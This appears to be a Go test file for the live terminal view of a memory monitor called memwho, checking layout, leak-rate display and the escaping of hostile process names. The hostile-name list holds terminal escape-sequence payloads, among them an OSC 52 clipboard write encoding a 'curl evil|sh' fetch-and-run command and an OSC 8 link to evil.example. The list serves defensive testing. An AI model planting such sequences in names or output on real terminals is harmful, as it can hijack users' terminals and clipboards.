//go:build !notui

package watch

import (
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/memwho/memwho/internal/sample"
	"github.com/memwho/memwho/internal/term"
	"github.com/memwho/memwho/internal/term/termtest"
)

// hostileName holds an ANSI colour sequence and a newline: it must reach
// the screen escaped, never raw.
const hostileName = "red\x1b[31mtext\nline2"

// testProcs is the synthetic host of the view tests: steady groups, one
// growing 1 MiB a second (the leak), one shrinking, an estimate, swap, a
// hostile name, a 300-byte name and a group that appears late.
var testProcs = []proc{
	{pid: 100, name: "postgres", cgroup: "/system.slice/postgresql.service", shared: 96 * miB, conns: 3, ram: constant(180 * miB)},
	{pid: 101, name: "postgres", cgroup: "/system.slice/postgresql.service", shared: 96 * miB, conns: 1, ram: constant(120 * miB)},
	{pid: 102, name: "postgres", cgroup: "/system.slice/postgresql.service", shared: 96 * miB, ram: constant(100 * miB)},
	{pid: 200, name: "firefox", uid: 65534, cgroup: "/user.slice/session-2.scope", shared: 247 * miB, swap: 160 * miB, conns: 42, ram: constant(2*giB + 123*miB)},
	{pid: 300, name: "leaky", uid: 65534, cgroup: "/user.slice/session-2.scope", shared: miB, ram: linear(50*miB, miB)},
	{pid: 400, name: hostileName, uid: 65534, cgroup: "/user.slice/session-2.scope", ram: constant(3 * miB)},
	{pid: 500, name: "dockerd", cgroup: "/system.slice/docker.service", shared: 20 * miB, swap: 8 * miB, est: true, ram: constant(60 * miB)},
	{pid: 600, name: strings.Repeat("long-name-", 30), cgroup: "/system.slice/long.service", shared: 2 * miB, ram: constant(12 * miB)},
	{pid: 700, name: "cache", cgroup: "/system.slice/cache.service", ram: func(i int) uint64 { return 300*miB - uint64(i)*2*miB }},
	{pid: 800, name: "cron", cgroup: "/system.slice/cron.service", shared: 512 * kiB, ram: func(i int) uint64 {
		if i < 18 {
			return 0 // started late: two samples so far
		}
		return 2 * miB
	}},
}

// goldenCases are the screens checked byte for byte against
// testdata/NAME.golden.
var goldenCases = []struct {
	name  string
	w, h  int
	n     int // snapshots fed
	keys  []string
	color bool
	conns bool
}{
	{"starting_80", 80, 24, 0, nil, false, false},
	{"default_80", 80, 24, 20, nil, false, false},
	{"default_120", 120, 30, 20, nil, false, false},
	{"sort_rate_120", 120, 30, 20, []string{"t"}, false, false},
	{"sort_name_80", 80, 24, 20, []string{"n"}, false, false},
	{"short_80x10", 80, 10, 20, nil, false, false},
	{"scroll_down_80x10", 80, 10, 20, []string{"down", "down"}, false, false},
	{"scroll_pgdown_80x10", 80, 10, 20, []string{"pgdown"}, false, false},
	{"scroll_end_80x10", 80, 10, 20, []string{"end"}, false, false},
	{"scroll_end_up_80x10", 80, 10, 20, []string{"end", "up"}, false, false},
	{"scroll_down_40x10", 40, 10, 20, []string{"down"}, false, false},
	{"by_pid_40", 40, 24, 20, []string{"G"}, false, false},
	{"sort_rate_40", 40, 24, 20, []string{"t"}, false, false},
	{"narrow_30", 30, 12, 20, nil, false, false},
	{"short_40x10", 40, 10, 20, nil, false, false},
	{"narrow_40", 40, 20, 20, nil, false, false},
	{"paused_80", 80, 24, 20, []string{"space"}, false, false},
	{"help_80", 80, 24, 20, []string{"?"}, false, false},
	{"filter_prompt_80", 80, 24, 20, []string{"/", "^(post|le)"}, false, false},
	{"bad_regex_80", 80, 24, 20, []string{"/", "(post", "enter"}, false, false},
	{"filter_applied_120", 120, 30, 20, []string{"/", "^(post|le)", "enter"}, false, false},
	{"by_user_120", 120, 30, 20, []string{"g"}, false, false},
	{"by_cgroup_120", 120, 30, 20, []string{"g", "g"}, false, false},
	{"by_pid_80", 80, 24, 20, []string{"G"}, false, false},
	{"color_120", 120, 30, 20, nil, true, false},
	{"conns_120", 120, 30, 20, []string{"o"}, false, true},
	{"conns_80", 80, 24, 20, nil, false, true},
}

func TestViewGolden(t *testing.T) {
	for _, tc := range goldenCases {
		t.Run(tc.name, func(t *testing.T) {
			m := testModel(t, tc.w, tc.h, tc.n, Options{Color: tc.color, Conns: tc.conns})
			m, _ = press(m, tc.keys...)
			got := m.View()
			checkScreen(t, got, tc.w, tc.h, tc.color)
			golden(t, filepath.Join("testdata", tc.name+".golden"), got)
		})
	}
}

// checkScreen checks what every screen must satisfy: no line wider than
// the terminal (so nothing wraps), no more lines than its height, no raw
// control character from a name, and the hostile name shown escaped.
func checkScreen(t *testing.T, screen string, w, h int, color bool) {
	t.Helper()
	lines := strings.Split(screen, "\n")
	if len(lines) > h {
		t.Errorf("%d lines on a %d-line terminal", len(lines), h)
	}
	for i, l := range lines {
		if n := termtest.Width(l); n > w {
			t.Errorf("line %d is %d cells wide on a %d-cell terminal: %q", i+1, n, w, l)
		}
		plain := l
		if color {
			plain = termtest.Strip(l)
		}
		for _, c := range plain {
			if c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) {
				t.Errorf("line %d holds control character %U: %q", i+1, c, l)
				break
			}
		}
	}
	if strings.Contains(screen, "\x1b[31mtext") {
		t.Error("the hostile name's escape sequence reached the screen raw")
	}
	if strings.Contains(screen, "red\\x1b[31mtext") && strings.Contains(screen, "line2") && !strings.Contains(screen, "text\\nline2") {
		t.Error("the hostile name's newline was not escaped")
	}
}

func TestViewShowsHostileNameEscaped(t *testing.T) {
	m := testModel(t, 120, 30, 3, Options{})
	s := m.View()
	if !strings.Contains(s, `red\x1b[31mtext\nline2`) {
		t.Errorf("hostile name not shown escaped:\n%s", s)
	}
}

func TestViewLeakAndRate(t *testing.T) {
	m := testModel(t, 120, 30, 20, Options{})
	var leakLine string
	for _, l := range strings.Split(m.View(), "\n") {
		if strings.HasSuffix(l, " leaky") {
			leakLine = l
		}
	}
	if leakLine == "" {
		t.Fatal("no leaky row on screen")
	}
	// 1 MiB a second for 20 samples: +19.0 MiB, +60.0 MiB/min, a rising
	// sparkline and the flag.
	for _, want := range []string{"+19.0 MiB", "+60.0", "▁▂▃▃▄▅▆▆▇█", "LEAK"} {
		if !strings.Contains(leakLine, want) {
			t.Errorf("leaky row %q lacks %q", leakLine, want)
		}
	}
	if !regexp.MustCompile(`1 leak suspect\b`).MatchString(m.View()) {
		t.Error("header does not count 1 leak suspect")
	}
}

func TestViewResize(t *testing.T) {
	// Every width from 20 to 200 keeps lines within the terminal and
	// shows the name column's title.
	m := testModel(t, 80, 24, 20, Options{})
	for w := 20; w <= 200; w += 7 {
		mm, _ := m.Update(SizeMsg{Width: w, Height: 15})
		s := mm.View()
		checkScreen(t, s, w, 15, false)
		if w >= 60 && !strings.Contains(s, "Program") {
			t.Errorf("width %d: no Program column", w)
		}
	}
	// Tiny terminals: nothing panics, nothing overflows.
	for w := 1; w <= 20; w++ {
		for h := 1; h <= 6; h++ {
			for _, keys := range [][]string{nil, {"?"}, {"/", "(x"}} {
				mm, _ := m.Update(SizeMsg{Width: w, Height: h})
				mm, _ = press(mm, keys...)
				checkScreen(t, mm.View(), w, h, false)
			}
		}
	}
	// Resizing never loses history.
	mm, _ := m.Update(SizeMsg{Width: 200, Height: 50})
	if s := mm.View(); !strings.Contains(s, "+60.0") {
		t.Error("rate lost after a resize")
	}
}

func TestViewTiming(t *testing.T) {
	// The title shows the snapshot's time and the interval.
	m := testModel(t, 120, 30, 20, Options{Interval: 1500 * time.Millisecond})
	first := strings.SplitN(m.View(), "\n", 2)[0]
	if !strings.Contains(first, "12:00:19") || !strings.Contains(first, "every 1.5s") {
		t.Errorf("title %q lacks the time 12:00:19 and interval 1.5s", first)
	}
}

func BenchmarkView(b *testing.B) {
	// One screen of 120×40 from 1000 processes in 300 programs, after a
	// full window: what every refresh and key press costs to render.
	var procs []proc
	for i := range 1000 {
		procs = append(procs, proc{pid: 1000 + i, name: "prog" + strconv.Itoa(i%300), shared: miB, ram: linear(uint64(i+2)*miB, uint64(i%5)*kiB)})
	}
	m := NewModel(nil, Options{Interval: 2 * time.Second})
	m, _ = m.Update(SizeMsg{Width: 120, Height: 40})
	for i := range 30 {
		m.Add(snapshot(i, 2*time.Second, procs))
	}
	for b.Loop() {
		_ = m.View()
	}
}

func TestViewHeldBack(t *testing.T) {
	// The sampler held back every new figure of "big" for the last 12
	// samples: no rate can be fitted, so the rate column says how old
	// the figure is, and the header counts the held-back processes.
	m := testModel(t, 120, 30, 0, Options{})
	for i := range 12 {
		snap := &sample.Snapshot{Time: t0.Add(time.Duration(i) * time.Second), Procs: []sample.Process{
			{PID: 1, Name: "big", RAM: 10 * giB},
			{PID: 2, Name: "small", RAM: 10*miB + uint64(i)*miB},
		}}
		m.tr.AddSampled(snap, []time.Time{t0.Add(-time.Second), snap.Time})
		m.scans++
	}
	s := m.View()
	checkScreen(t, s, 120, 30, false)
	for _, want := range []string{"1 figure held back", "0 B held 12s ▁▁▁▁▁▁▁▁▁▁      big", "+60.0 ▁▂▃▃▄▅▆▆▇█ LEAK small"} {
		if !strings.Contains(s, want) {
			t.Errorf("screen lacks %q:\n%s", want, s)
		}
	}
}

func TestViewWideNames(t *testing.T) {
	// Double-width characters and combining marks are measured in cells,
	// so a cut name never pushes a row past the edge.
	procs := []proc{
		{pid: 1, name: "数据库服务器进程名字很长的程序数据库服务器", ram: constant(miB)},
		{pid: 2, name: "e\u0301\u0301\u0301tude-accentue\u0301e-tre\u0300s-longue-aussi", ram: constant(2 * miB)},
		{pid: 3, name: "🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘🐘", ram: constant(3 * miB)},
	}
	for _, w := range []int{40, 63, 64, 80, 81, 120} {
		m := NewModel(nil, Options{Interval: time.Second})
		m, _ = m.Update(SizeMsg{Width: w, Height: 12})
		for i := range 3 {
			m.Add(snapshot(i, time.Second, procs))
		}
		checkScreen(t, m.View(), w, 12, false)
	}
}

// hostileViewNames are process names a local user controls (comm, a
// script's or an executable's name, a cgroup or unit): every kind of
// escape sequence a terminal acts on, C1 controls, bidi and zero-width
// characters, wide and combining characters, invalid UTF-8, and length.
var hostileViewNames = []string{
	"csi\x1b[2J\x1b[1;1Hcursor",
	"osc-title\x1b]0;pwned\x07",
	"osc-title-st\x1b]2;pwned\x1b\\",
	"osc52\x1b]52;c;Y3VybCBldmlsfHNo\x07",
	"osc8\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
	"dcs\x1bP+q544e\x1b\\",
	"title-stack\x1b[22;0t\x1b[23;0t",
	"c1-byte\x9b2J\x9d0;x\x9c",
	"c1-utf8\u009b2J\u009d0;x\u009c",
	"bidi\u202eevil\u202d\u2066x\u2069\u200f",
	"zero\u200bwidth\u200d\u2060\ufeff",
	"wide数据库服务器进程🐘🐘",
	"emoji\u263a\ufe0f\U0001f1eb\U0001f1f7\U0001f468\u200d\U0001f469\u200d\U0001f467",
	"combining-e" + strings.Repeat("\u0301", 200),
	"hangul\u1100\u1161\u11a8",
	"invalid\xff\xfe\xc0\x80\xed\xa0\x80utf8",
	"nul\x00bell\x07bs\x08cr\rlf\ntab\t",
	strings.Repeat("\x1b[31m", 500) + "long",
	strings.Repeat("数", 2000),
}

// Hostile names in the live view at many widths: no escape
// sequence but the view's own SGR styles, no C1 or bidi control, no
// line wider than the terminal, in every state of the status line.
func TestViewHostileNames(t *testing.T) {
	sgr := regexp.MustCompile(`\x1b\[[0-9;]*m`)
	var procs []proc
	for i, n := range hostileViewNames {
		procs = append(procs, proc{pid: 1000 + i, name: n, cgroup: "/system.slice/" + n + ".service", ram: constant(uint64(i+1) * miB)})
	}
	for _, color := range []bool{false, true} {
		for _, keys := range [][]string{nil, {"g", "g"}, {"G"}, {"/"}, {"/", "x", "enter"}} {
			for _, w := range []int{1, 2, 17, 40, 80, 81, 200} {
				m := NewModel(nil, Options{Interval: time.Second, Color: color})
				m, _ = m.Update(SizeMsg{Width: w, Height: 30})
				for i := range 3 {
					m.Add(snapshot(i, time.Second, procs))
				}
				m, _ = press(m, keys...)
				if keys != nil && keys[0] == "/" && len(keys) == 1 {
					// A paste of every name into the prompt.
					m, _ = m.Update(term.Paste{Text: strings.Join(hostileViewNames, "")})
				}
				screen := m.View()
				checkScreen(t, screen, w, 30, color)
				rest := sgr.ReplaceAllString(screen, "")
				for _, r := range rest {
					if r == 0x1b || r == utf8.RuneError || (r >= 0x80 && r < 0xa0) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200b || r == 0x200f || r == 0xfeff {
						t.Errorf("color %v keys %q width %d: %U on the screen:\n%q", color, keys, w, r, screen)
						break
					}
				}
			}
		}
	}
}

// BenchmarkKeyFrame is what one key press costs the live view: Update,
// View and the line diff (a terminal or pipe that floods the
// input gets one frame per read, each this much).
func BenchmarkKeyFrame(b *testing.B) {
	m := testModel(b, 120, 40, 20, Options{})
	var scr term.Screen
	var frame []byte
	keys := []term.Key{key("n"), key("r"), key("g"), key("G")}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		m, _ = m.Update(keys[i%len(keys)])
		frame = scr.Frame(frame[:0], strings.Split(m.View(), "\n"), m.width, m.height)
	}
}

// Sizes a terminal (or anyone with its descriptor, TIOCSWINSZ)
// can report, from none to 65535×65535 cells: the view fits them and
// stays bounded (rows are as many as the groups, not the height).
func TestViewExtremeSizes(t *testing.T) {
	for _, sz := range [][2]int{{0, 0}, {1, 1}, {1, 65535}, {65535, 1}, {65535, 65535}} {
		m := testModel(t, sz[0], sz[1], 3, Options{})
		for _, keys := range [][]string{nil, {"?"}, {"/", "x"}} {
			p, _ := press(m, keys...)
			screen := p.View()
			checkScreen(t, screen, max(sz[0], 1), max(sz[1], 1), false)
			if len(screen) > 2<<20 {
				t.Errorf("%d×%d %q: a screen of %d bytes", sz[0], sz[1], keys, len(screen))
			}
		}
	}
}

// TestTitleSkipped: processes a scan left out (Broken: unparsable, or
// memwho short of file descriptors) are counted on the title line, since
// the totals miss their memory; none, nothing is said.
func TestTitleSkipped(t *testing.T) {
	m := testModel(t, 120, 30, 2, Options{})
	if l := m.titleLine(); strings.Contains(l, "skipped") {
		t.Errorf("title %q says skipped with none", l)
	}
	s := snapshot(2, time.Second, testProcs)
	s.Broken = 3
	m.Add(s)
	if l := m.titleLine(); !strings.Contains(l, "processes (1 estimate ~) (3 skipped)") {
		t.Errorf("title %q, want the 3 skipped counted", l)
	}
}
